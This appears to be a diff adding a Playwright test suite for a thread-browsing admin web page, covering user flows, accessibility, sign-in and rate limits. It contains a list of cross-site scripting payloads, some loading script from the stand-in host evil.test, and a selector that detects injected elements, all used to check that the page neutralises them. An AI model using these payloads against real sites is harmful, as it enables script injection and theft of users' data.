@@ -1,0 +1,652 @@
+"""The browse page in Chromium: each flow with and without JavaScript, accessibility, XSS."""
+
+import json
+from collections.abc import Callable, Iterator
+from itertools import pairwise
+from pathlib import Path
+from typing import Any
+from urllib.error import HTTPError
+from urllib.parse import quote
+from urllib.request import Request, urlopen
+
+import pytest
+from axe_playwright_python.sync_playwright import Axe
+from conftest import Server, serving, until
+from playwright.sync_api import Browser, BrowserContext, Page, expect
+
+from app import create_app
+from exchange import imports
+from models import DEFAULT_PROJECT, db
+from store import api_keys
+from store.sign_ins import FREE_TRIES
+
+PHONE = {"width": 390, "height": 844}
+DESK = {"width": 1280, "height": 800}
+DARK_MATTERS_FOR = {"runOnly": ["color-contrast", "link-in-text-block"]}
+MARKDOWN = (
+    "## Plan\n\nSome `code`, a [link](https://x.org) and **more**:\n\n1. one\n2. two\n\n"
+    "> quoted\n\n| a | b |\n|:--|--:|\n| 1 | 2 |\n\n```python\nprint(1)\n```\n\n---\n\nend"
+)
+XSS = [
+    "<script>alert(1)</script>",
+    "<img src=x onerror=alert(1)>",
+    "<svg/onload=alert(1)>",
+    '"><script src=//evil.test/x.js></script>',
+    "' onmouseover=alert(1) autofocus onfocus=alert(1) x='",
+    '" style="background:url(//evil.test/s)" x="',
+    "[x](javascript:alert(1))",
+    "![x](http://evil.test/i.png)",
+    "<http://evil.test/auto>",
+    "<iframe src=http://evil.test></iframe>",
+    "</textarea></title></style><script>alert(1)</script>",
+    "{{ 7*7 }}{% raw %}${7*7}",
+    "<base href=//evil.test/><link rel=stylesheet href=//evil.test/c>",
+    "<form action=//evil.test><button>x",
+    "<meta http-equiv=refresh content=0;url=//evil.test>",
+]
+FOREIGN = (
+    "img, iframe, object, base, meta[http-equiv], main :is(script, style, link), "
+    "[style], [onerror], [onload], [onfocus], form[action^='//']"
+)
+HAS_COPIED = "wanted => navigator.clipboard.readText().then(text => text.includes(wanted))"
+MOST_MILLISECONDS = 20_000
+expect.set_options(timeout=MOST_MILLISECONDS)
+
+Visit = Callable[..., Page]
+
+
+@pytest.fixture(scope="module")
+def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    """A live server on a file, so that a test can import what the API does not take."""
+    folder = tmp_path_factory.mktemp("site")
+    with serving(folder / "log", DATABASE_URL=f"sqlite:///{folder / 'threads.db'}") as server:
+        server.database_url = f"sqlite:///{folder / 'threads.db'}"  # type: ignore[attr-defined]
+        yield server
+
+
+@pytest.fixture(scope="module")
+def first_server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
+    with serving(tmp_path_factory.mktemp("first") / "log") as server:
+        yield server
+
+
+@pytest.fixture
+def fresh(first_server: Server) -> Server:
+    """A live server without a thread."""
+    for thread in call(first_server, "GET", "?limit=100")["data"]:
+        call(first_server, "DELETE", f"/{thread['id']}")
+    return first_server
+
+
+@pytest.fixture
+def visit(browser: Browser) -> Iterator[Visit]:
+    """Open an address of a server; whatever leaves the server or misbehaves fails the test."""
+    contexts: list[BrowserContext] = []
+    amiss: list[str] = []
+
+    def visit(server: Server, address: str, script: bool = True, **options: Any) -> Page:
+        options = {"viewport": DESK, "base_url": server.root_url} | options
+        context = browser.new_context(java_script_enabled=script, **options)
+        context.set_default_timeout(MOST_MILLISECONDS)
+        contexts.append(context)
+
+        def leave(route: Any) -> None:
+            amiss.append(f"request to {route.request.url}")
+            route.abort()
+
+        def listen(page: Page) -> None:
+            page.on("dialog", lambda dialog: (amiss.append(dialog.message), dialog.dismiss()))
+            page.on("pageerror", lambda error: amiss.append(str(error)))
+            page.on("console", lambda line: amiss.extend(refused_by_policy(line.text)))
+
+        context.route(lambda url: not url.startswith((server.root_url, "data:")), leave)
+        context.on("page", listen)
+        page = context.new_page()
+        page.goto(address)
+        return page
+
+    yield visit
+    for context in contexts:
+        context.close()
+    assert amiss == []
+
+
+def refused_by_policy(line: str) -> list[str]:
+    return [line] if "Security Policy" in line else []
+
+
+def make(server: Server, *texts: str, **metadata: str) -> str:
+    messages = [
+        {"role": ("user", "assistant")[number % 2], "content": text}
+        for number, text in enumerate(texts)
+    ]
+    return str(call(server, "POST", "", {"messages": messages, "metadata": metadata})["id"])
+
+
+def call(server: Server, method: str, path: str, body: Any = None) -> Any:
+    """Call the API: without the SDK, whose client takes longer to make than all else here."""
+    headers = {"Content-Type": "application/json"}
+    data = json.dumps(body).encode() if body else None
+    request = Request(f"{server.base_url}/threads{path}", data, headers, method=method)
+    with urlopen(request) as answer:
+        return json.load(answer)
+
+
+def bring(server: Server, *lines: dict[str, Any]) -> None:
+    """Import threads into the server's database."""
+    app = create_app({"DATABASE_URL": server.database_url, "DURABILITY": "normal"})  # type: ignore[attr-defined]
+    with app.app_context():
+        encoded = [json.dumps(line).encode() for line in lines]
+        outcomes = list(imports.import_lines(DEFAULT_PROJECT, encoded, "fail"))
+        db.engine.dispose()
+    assert [outcome.reason for outcome in outcomes] == [""] * len(lines)
+
+
+def press(page: Page, name: str) -> None:
+    page.get_by_role("button", name=name).click()
+
+
+def follow(page: Page, name: str) -> None:
+    page.get_by_role("link", name=name, exact=True).first.click()
+
+
+with_and_without_script = pytest.mark.parametrize("script", [True, False], ids=["js", "no-js"])
+
+
+@with_and_without_script
+def test_the_first_minute_ends_with_an_example(fresh: Server, visit: Visit, script: bool) -> None:
+    page = visit(fresh, "/", script)
+    expect(page.get_by_role("heading", level=1)).to_have_text("No threads yet")
+    expect(page.locator("pre")).to_contain_text(fresh.base_url)
+    press(page, "Make an example thread")
+    expect(page.get_by_role("article")).to_have_count(4)
+    expect(page.get_by_role("status")).to_contain_text("what a thread looks like")
+    page.goto("/admin/")
+    expect(page.get_by_role("row")).to_have_count(2)
+
+
+@with_and_without_script
+def test_a_person_finds_a_thread_by_word_pair_and_chip(
+    site: Server, visit: Visit, script: bool
+) -> None:
+    tag = f"find{script}"
+    for number in range(23):
+        make(site, f"heron {tag} {number}", tag=tag, number=str(number))
+    page = visit(site, "/admin/", script)
+    page.get_by_label("Search messages").fill(f"heron {tag}")
+    press(page, "Search")
+    assert page.url == f"{site.root_url}/admin/?q=heron+{tag}"
+    expect(page.locator("tbody tr")).to_have_count(20)
+    follow(page, "Older →")
+    expect(page.locator("tbody tr")).to_have_count(3)
+    follow(page, "← Newer")
+    expect(page.locator("tbody tr")).to_have_count(20)
+    page.get_by_role("link", name="number 7", exact=True).click()
+    expect(page.locator("tbody tr")).to_have_count(1)
+    expect(page.locator(".active")).to_contain_text("7")
+    follow(page, "Reset all filters")
+    assert page.url == f"{site.root_url}/admin/"
+    page.get_by_label("Metadata").fill(f"tag={tag}")
+    page.get_by_label("From").fill("2020-01-01")
+    press(page, "Search")
+    expect(page.locator("tbody tr")).to_have_count(20)
+    assert f"metadata%5Btag%5D={tag}" in page.url
+
+
+@with_and_without_script
+def test_a_bad_filter_is_told_beside_its_field(site: Server, visit: Visit, script: bool) -> None:
+    make(site, "Something to look through")
+    page = visit(site, "/admin/", script)
+    page.get_by_label("Metadata").fill("no pair")
+    press(page, "Search")
+    field = page.get_by_label("Metadata")
+    expect(field).to_have_value("no pair")
+    expect(field).to_have_accessible_description("Write it as key=value.")
+
+
+@with_and_without_script
+def test_a_person_reads_a_thread(site: Server, visit: Visit, script: bool) -> None:
+    thread_id = make(site, *(f"turn {number}" for number in range(60)), MARKDOWN, "long " * 1000)
+    page = visit(site, f"/admin/threads/{thread_id}", script)
+    expect(page.get_by_role("article")).to_have_count(50)
+    follow(page, "↓ Later messages")
+    expect(page.get_by_role("article")).to_have_count(12)
+    text = page.locator(".folded")
+    assert until(lambda: text.evaluate("text => text.clientHeight < text.scrollHeight"))
+    page.locator(".fold summary").click()
+    expect(page.locator(".fold")).to_have_text("Show less", use_inner_text=True)
+    assert until(lambda: text.evaluate("text => text.clientHeight === text.scrollHeight"))
+    link = page.get_by_role("article").first.get_by_role("link", name="Link to this message")
+    link.click()
+    target = page.locator("article:target")
+    expect(target).to_contain_text("turn 50")
+    expect(target).to_be_in_viewport()
+
+
+@with_and_without_script
+def test_a_person_writes_a_thread_and_adds_to_it(site: Server, visit: Visit, script: bool) -> None:
+    page = visit(site, "/admin/", script)
+    follow(page, "New thread")
+    page.get_by_label("Text").fill("A first\nmessage")
+    page.get_by_label("Key 1", exact=True).fill("colour")
+    page.get_by_label("Value 1", exact=True).fill("green")
+    press(page, "Create thread")
+    expect(page.get_by_role("heading", level=1)).to_have_text("A first")
+    expect(page.get_by_role("link", name="colour green")).to_be_visible()
+    page.get_by_label("Role").select_option("assistant")
+    press(page, "Add message")
+    expect(page.get_by_label("Text")).to_have_accessible_description(
+        "Markdown, at most 256,000 characters. Message content must be non-empty."
+    )
+    expect(page.get_by_label("Role")).to_have_value("assistant")
+    page.get_by_label("Text").fill("An answer")
+    press(page, "Add message")
+    expect(page.locator("article.assistant:target")).to_contain_text("An answer")
+
+
+def test_a_form_is_sent_once_by_a_double_click(site: Server, visit: Visit) -> None:
+    page = visit(site, f"/admin/threads/{make(site, 'hi')}")
+    click = "form => form.dispatchEvent(new SubmitEvent('submit', { cancelable: true }))"
+    form = page.locator("form", has=page.get_by_role("button", name="Add message"))
+    assert [form.evaluate(click), form.evaluate(click)] == [True, False]
+
+
+@with_and_without_script
+def test_back_ticks_no_thread_that_a_person_did_not(
+    site: Server, visit: Visit, script: bool
+) -> None:
+    of = f"ticks {script}"
+    for number in range(3):
+        make(site, f"tick {number}", of=of)
+    page = visit(site, f"/admin/?metadata[of]={quote(of)}", script)
+    page.get_by_label("Select tick 1").check()
+    follow(page, "tick 2")
+    expect(page.get_by_role("heading", level=1)).to_have_text("tick 2")
+    make(site, "tick 3", of=of)
+    page.go_back()
+    expect(page.get_by_label("Select tick 1")).to_be_visible()
+    for number in range(4):
+        box = page.get_by_label(f"Select tick {number}")
+        assert number == 1 or box.count() == 0 or not box.is_checked()
+
+
+@with_and_without_script
+def test_wrong_metadata_is_told_and_kept_then_saved(
+    site: Server, visit: Visit, script: bool
+) -> None:
+    page = visit(site, f"/admin/threads/{make(site, 'hi', old='1')}", script)
+    follow(page, "Edit metadata")
+    page.get_by_label("Value 1", exact=True).fill("v" * 513)
+    page.get_by_label("Key 2", exact=True).fill("new")
+    page.get_by_label("Value 2", exact=True).fill("kept")
+    press(page, "Save metadata")
+    value = page.get_by_label("Value 1", exact=True)
+    expect(value).to_have_value("v" * 513)
+    expect(value).to_have_attribute("aria-invalid", "true")
+    expect(page.get_by_label("Value 2", exact=True)).to_have_value("kept")
+    value.fill("2")
+    press(page, "Save metadata")
+    expect(page.get_by_role("link", name="old 2")).to_be_visible()
+    expect(page.get_by_role("link", name="new kept")).to_be_visible()
+
+
+@with_and_without_script
+def test_a_person_copies_a_thread_and_deletes_a_message(
+    site: Server, visit: Visit, script: bool
+) -> None:
+    thread_id = make(site, "one", "two")
+    page = visit(site, f"/admin/threads/{thread_id}", script)
+    press(page, "Copy thread")
+    expect(page.get_by_role("status")).to_contain_text("This is the copy.")
+    assert thread_id not in page.url
+    page.get_by_role("link", name="Delete message").first.click()
+    expect(page.get_by_role("heading", level=1)).to_have_text("Delete this message?")
+    press(page, "Delete 1 message")
+    expect(page.get_by_role("article")).to_have_count(1)
+    assert len(call(site, "GET", f"/{thread_id}/messages")["data"]) == 2
+
+
+@with_and_without_script
+def test_selected_threads_are_deleted_after_one_confirmation(
+    site: Server, visit: Visit, script: bool
+) -> None:
+    tag = f"doomed{script}"
+    for number in range(3):
+        make(site, f"{tag} {number}")
+    page = visit(site, f"/admin/?q={tag}", script)
+    for number in (0, 2):
+        page.get_by_label(f"Select {tag} {number}").check()
+    press(page, "Delete 2 selected…" if script else "Delete selected…")
+    expect(page.get_by_role("heading", level=1)).to_have_text("Delete 2 threads?")
+    press(page, "Delete 2 threads")
+    expect(page.get_by_role("status")).to_have_text("Deleted 2 threads.")
+    assert page.url == f"{site.root_url}/admin/?q={tag}"
+    expect(page.locator("tbody tr")).to_have_count(1)
+    page.get_by_role("link", name=f"{tag} 1").click()
+    follow(page, "Delete…")
+    press(page, "Delete 1 thread")
+    expect(page.get_by_role("status")).to_have_text("Deleted 1 thread.")
+
+
+@with_and_without_script
+def test_a_person_exports_one_thread_and_a_filtered_set(
+    site: Server, visit: Visit, script: bool
+) -> None:
+    thread_id = make(site, f"pelican{script}")
+    page = visit(site, f"/admin/?q=pelican{script}", script)
+    for address, stem in (("", "threads"), (f"/admin/threads/{thread_id}", thread_id)):
+        if address:
+            page.goto(address)
+        for name, suffix in (("Markdown", "md"), ("JSON", "json"), ("JSON Lines", "jsonl")):
+            if not page.get_by_role("link", name=name, exact=True).is_visible():
+                page.locator("summary", has_text="Export").click()
+            with page.expect_download() as download:
+                follow(page, name)
+            assert download.value.suggested_filename == f"{stem}.{suffix}"
+            assert thread_id in Path(download.value.path()).read_text()
+
+
+def test_script_copies_ids_and_code(site: Server, visit: Visit) -> None:
+    thread_id = make(site, "copy me")
+    permissions = ["clipboard-read", "clipboard-write"]
+    page = visit(site, f"/admin/threads/{thread_id}", permissions=permissions)
+    page.locator("summary", has_text="from code").click()
+    for name, copied in (
+        ("Copy id", thread_id),
+        ("Copy as curl", f'curl -s "{site.base_url}/threads/{thread_id}'),
+        ("Copy as Python", f'base_url="{site.base_url}"'),
+    ):
+        page.get_by_role("button", name=name, exact=True).click()
+        page.wait_for_function(HAS_COPIED, arg=copied)
+    page.get_by_role("button", name="Copy message id").click()
+    page.wait_for_function(HAS_COPIED, arg="msg_")
+    expect(page.get_by_role("status")).to_have_text("Copied.")
+
+
+def test_script_selects_all_and_slash_finds_the_search(site: Server, visit: Visit) -> None:
+    for number in range(2):
+        make(site, f"selectable {number}")
+    page = visit(site, "/admin/?q=selectable")
+    remove = page.get_by_role("button", name="Delete")
+    expect(remove).to_be_disabled()
+    page.get_by_label("Select all on this page").check()
+    expect(remove).to_have_text("Delete 2 selected…")
+    page.keyboard.press("/")
+    expect(page.get_by_label("Search messages")).to_be_focused()
+    page.keyboard.type("a/b")
+    expect(page.get_by_label("Search messages")).to_have_value("a/b")
+
+
+def test_script_counts_characters_as_the_server_does(site: Server, visit: Visit) -> None:
+    page = visit(site, "/admin/threads/new")
+    page.get_by_label("Key 1", exact=True).fill("😀" * 65)
+    counter = page.locator(".counter.over")
+    expect(counter).to_have_text("65 / 64")
+    page.get_by_label("Key 1", exact=True).fill("😀" * 64)
+    expect(counter).to_have_count(0)
+
+
+@pytest.fixture(scope="module")
+def crowded(site: Server) -> str:
+    """A thread that holds every kind of part, and texts that would burst a layout."""
+    thread_id = "thread_crowded"
+    texts = [MARKDOWN, "x" * 10_000, "W" * 1900, "```\n" + "y" * 1500 + "\n```", XSS[4]]
+    bring(site, exported(thread_id, texts, {"k" * 64: "v" * 512, "plan": "pro"}))
+    bring(site, exported(f"{thread_id}_2", texts[:1], {"plan": "team"}))
+    return thread_id
+
+
+def exported(thread_id: str, texts: list[str], metadata: dict[str, str]) -> dict[str, Any]:
+    """Return a line of the exchange format whose messages hold a text in every field."""
+    messages = [
+        {
+            "id": f"msg_{thread_id}_{number}",
+            "object": "thread.message",
+            "created_at": 1_700_000_000 + number,
+            "assistant_id": text[:200],
+            "thread_id": thread_id,
+            "run_id": text[:60],
+            "status": "incomplete",
+            "incomplete_details": {"reason": text[:200]},
+            "completed_at": None,
+            "incomplete_at": 1_700_000_000,
+            "role": ("user", "assistant")[number % 2],
+            "content": [
+                {
+                    "type": "text",
+                    "text": {
+                        "value": text,
+                        "annotations": [
+                            {
+                                "type": "file_citation",
+                                "text": text[:200],
+                                "start_index": 0,
+                                "end_index": 1,
+                                "file_citation": {"file_id": text[:200]},
+                            }
+                        ],
+                    },
+                },
+                {
+                    "type": "image_url",
+                    "image_url": {"url": "https://evil.test/" + "".join(text.split())},
+                },
+                {"type": "image_file", "image_file": {"file_id": f"file{text[:200]}"}},
+                {"type": "refusal", "refusal": text[:500]},
+            ],
+            "attachments": [{"file_id": f"file{text[:200]}", "tools": [{"type": "file_search"}]}],
+            "metadata": {text[:64]: text[:512]},
+        }
+        for number, text in enumerate(texts)
+    ]
+    thread = {
+        "id": thread_id,
+        "object": "thread",
+        "created_at": 1_700_000_000,
+        "metadata": metadata,
+        "tool_resources": {"code_interpreter": {"file_ids": [text[:64] for text in texts[:20]]}},
+    }
+    return {"thread": thread, "messages": messages}
+
+
+def addresses(thread_id: str) -> dict[str, str]:
+    here = f"/admin/threads/{thread_id}"
+    return {
+        "list": "/admin/?metadata%5Bplan%5D=pro",
+        "bad filter": "/admin/?q=%22%22",
+        "nothing found": "/admin/?q=zebra",
+        "thread": here,
+        "metadata": f"{here}/metadata",
+        "new": "/admin/threads/new",
+        "confirmation": f"{here}/delete",
+        "confirmation of many": f"/admin/threads/delete?id={thread_id}&id={thread_id}_2",
+        "message confirmation": f"{here}/messages/msg_{thread_id}_1/delete",
+        "error": "/admin/threads/thread_missing",
+    }
+
+
+@pytest.mark.parametrize("name", list(addresses("")))
+def test_axe_finds_nothing_and_nothing_overflows(
+    site: Server, visit: Visit, crowded: str, name: str
+) -> None:
+    page = visit(site, addresses(crowded)[name])
+    page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
+    for scheme, options in (("light", {}), ("dark", DARK_MATTERS_FOR)):
+        page.emulate_media(color_scheme=scheme)
+        found = Axe().run(page, options=options | {"resultTypes": ["violations"]})
+        assert found.violations_count == 0, found.generate_report()
+    for viewport in (PHONE, DESK):
+        page.set_viewport_size(viewport)
+        width = page.evaluate("document.documentElement.scrollWidth")
+        assert width <= viewport["width"], f"{width} at {viewport['width']}"
+
+
+def test_axe_finds_nothing_in_the_first_minute_and_beside_wrong_fields(
+    fresh: Server, visit: Visit
+) -> None:
+    page = visit(fresh, "/admin/")
+    assert Axe().run(page).violations_count == 0
+    for address, button in (
+        ("/admin/threads/new", "Create thread"),
+        (f"/admin/threads/{make(fresh, 'hi')}", "Add message"),
+    ):
+        page.goto(address)
+        if (key := page.get_by_label("Key 1", exact=True)).is_visible():
+            key.fill("k" * 65)
+        press(page, button)
+        expect(page.get_by_role("alert")).to_be_visible()
+        find_nothing(page)
+
+
+def find_nothing(page: Page) -> None:
+    """Let axe look at a page in both colour schemes."""
+    for scheme in ("light", "dark"):
+        page.emulate_media(color_scheme=scheme)
+        found = Axe().run(page)
+        assert found.violations_count == 0, found.generate_report()
+
+
+def test_nothing_stored_or_asked_runs_or_loads(site: Server, visit: Visit) -> None:
+    tag = "xss"
+    held = exported(f"thread_{tag}", XSS, {text[:64]: text for text in XSS})
+    titles = [
+        exported(f"thread_{tag}-{number}", [text], {"of": tag, text[:64]: "<b>"})
+        for number, text in enumerate(XSS)
+    ]
+    bring(site, held, *titles)
+    page = visit(site, f"/admin/?metadata%5Bof%5D={tag}")
+    expect(page.locator("tbody tr")).to_have_count(len(XSS))
+    ids = "&".join(f"id={line['thread']['id']}" for line in titles)
+    for address in (
+        *addresses(f"thread_{tag}").values(),
+        f"/admin/threads/delete?{ids}",
+        f"/admin/?q={quote(''.join(XSS))[:400]}",
+        *(f"/admin/?metadata%5B{quote(text)}%5D={quote(text)}" for text in XSS[3:6]),
+        f"/admin/?pair={quote(XSS[3])}&since={quote(XSS[5])}&after={quote(XSS[0])}",
+        f"/admin/threads/{quote(XSS[0], '')}",
+    ):
+        page.goto(address)
+        page.evaluate("document.querySelectorAll('details').forEach(one => one.open = true)")
+        expect(page.get_by_role("heading", level=1)).to_have_count(1)
+        expect(page.locator(FOREIGN)).to_have_count(0)
+
+
+def test_every_page_has_its_landmarks(site: Server, visit: Visit, crowded: str) -> None:
+    page = visit(site, "/admin/?metadata%5Bplan%5D=pro", script=False)
+    for role in ("banner", "main", "contentinfo", "search"):
+        expect(page.get_by_role(role)).to_have_count(1)
+    expect(page.get_by_role("navigation", name="Main")).to_have_count(1)
+    for header in ("Conversation", "Messages", "Last activity"):
+        expect(page.get_by_role("columnheader", name=header)).to_be_visible()
+    page.goto(f"/admin/threads/{crowded}")
+    expect(page.get_by_role("article")).to_have_count(5)
+
+
+def test_headings_are_in_order_without_styles(site: Server, visit: Visit, crowded: str) -> None:
+    page = visit(site, "about:blank", script=False)
+    page.route("**/*.css", lambda route: route.abort())
+    for address in addresses(crowded).values():
+        page.goto(address)
+        found = page.locator(":is(h1, h2, h3, h4, h5, h6)").evaluate_all(
+            "all => all.map(one => Number(one.tagName[1]))"
+        )
+        assert found[0] == 1
+        assert all(below - above <= 1 for above, below in pairwise(found)), (address, found)
+
+
+@pytest.mark.parametrize("entry", ["/admin/threads/new", "/admin/"])
+def test_a_link_from_another_site_leaves_open_forms_valid(
+    site: Server, visit: Visit, entry: str
+) -> None:
+    form = visit(site, "/admin/threads/new")
+    other = form.context.new_page()
+    link = f'<a href="{site.root_url}{entry}">in</a>'
+    other.route(
+        "http://other.test/", lambda route: route.fulfill(content_type="text/html", body=link)
+    )
+    other.goto("http://other.test/")
+    other.get_by_role("link").click()
+    expect(other.get_by_role("heading", level=1)).to_be_visible()
+    assert other.url == f"{site.root_url}{entry}"
+    press(form, "Create thread")
+    expect(form.get_by_role("status")).to_have_text("Thread created.")
+
+
+def test_the_keyboard_reaches_the_content_and_shows_where_it_is(
+    site: Server, visit: Visit, crowded: str
+) -> None:
+    page = visit(site, "/admin/", script=False)
+    page.keyboard.press("Tab")
+    skip = page.get_by_role("link", name="Skip to content")
+    expect(skip).to_be_focused()
+    expect(skip).to_be_in_viewport()
+    page.keyboard.press("Enter")
+    expect(page.get_by_role("main")).to_be_focused()
+    page.keyboard.press("Tab")
+    outline = "getComputedStyle(document.activeElement).outlineStyle"
+    assert page.evaluate(outline) == "solid"
+
+
+@pytest.fixture
+def keyed(tmp_path: Path) -> Iterator[tuple[Server, str]]:
+    """A live server on which one key was made, and the key."""
+    with serving(tmp_path / "log", DATABASE_URL=f"sqlite:///{tmp_path / 'threads.db'}") as server:
+        app = create_app({"DATABASE_URL": f"sqlite:///{tmp_path / 'threads.db'}"})
+        with app.app_context():
+            secret = api_keys.create(DEFAULT_PROJECT, "", None)
+            db.engine.dispose()
+        assert until(lambda: asks_for_a_key(server))
+        yield server, secret
+
+
+def asks_for_a_key(server: Server) -> bool:
+    try:
+        urlopen(f"{server.root_url}/v1/threads").close()
+    except HTTPError as error:
+        return error.code == 401
+    return False
+
+
+@with_and_without_script
+def test_a_person_signs_in_and_out(keyed: tuple[Server, str], visit: Visit, script: bool) -> None:
+    server, secret = keyed
+    page = visit(server, "/admin/", script=script)
+    expect(page.get_by_role("heading", level=1)).to_have_text("Sign in")
+    try_key(page, "tsk_wrong")
+    expect(page.get_by_role("alert")).to_have_text("This is no valid API key.")
+    try_key(page, secret)
+    expect(page.get_by_role("heading", level=1)).to_have_text("No threads yet")
+    page.get_by_role("button", name="Sign out").click()
+    expect(page.get_by_role("status")).to_contain_text("You are signed out.")
+
+
+def try_key(page: Page, key: str) -> None:
+    page.get_by_label("API key").fill(key)
+    press(page, "Sign in")
+
+
+def test_axe_finds_nothing_at_the_sign_in_and_in_its_header(
+    keyed: tuple[Server, str], visit: Visit
+) -> None:
+    server, secret = keyed
+    page = visit(server, "/admin/sign-in", viewport=PHONE)
+    try_key(page, "tsk_wrong")
+    expect(page.get_by_role("alert")).to_be_visible()
+    find_nothing(page)
+    try_key(page, secret)
+    expect(page.get_by_role("button", name="Sign out")).to_be_visible()
+    find_nothing(page)
+    bar = page.get_by_role("banner")
+    assert bar.evaluate("bar => bar.clientHeight") <= 62
+
+
+def test_too_many_wrong_keys_make_a_person_wait(keyed: tuple[Server, str], visit: Visit) -> None:
+    page = visit(keyed[0], "/admin/threads/new")
+    told = []
+    while 429 not in told and len(told) < FREE_TRIES + 3:  # the first wait is over in two seconds
+        with page.expect_response("**/admin/sign-in") as answer:
+            try_key(page, "tsk_wrong")
+        told.append(answer.value.status)
+        page.wait_for_load_state()
+    assert told[:FREE_TRIES] == [401] * FREE_TRIES
+    expect(page.get_by_role("alert")).to_contain_text("Too many wrong keys. Try again in")
